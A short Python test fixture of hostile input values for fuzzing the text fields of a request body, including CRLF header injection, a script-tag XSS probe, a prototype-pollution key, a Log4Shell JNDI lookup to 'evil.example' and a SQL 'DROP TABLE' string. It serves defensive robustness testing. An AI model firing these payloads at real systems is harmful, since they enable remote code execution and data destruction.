"""Hostile values for every text field of a body."""

import json
from typing import Any

TEXTS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "a\r\nSet-Cookie: x=1",
    "\u2028",
    "\ufeff",
    "\u202e",
    "x" * 1_000_000,
    " " * 1_000_000,
    "\U0001f469\u200d\U0001f4bb" * 1000,
    "%0d%0aSet-Cookie:%20x=1",
    "<script>alert(1)</script>",
    "__proto__",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE users; --",
]


def with_lone_surrogate(body: dict[str, Any], field: str) -> bytes:
    """The body with a lone surrogate in one field. JSON can hold one, but UTF-8 cannot."""
    return json.dumps({**body, field: "\ud800abcdefgh"}).encode()
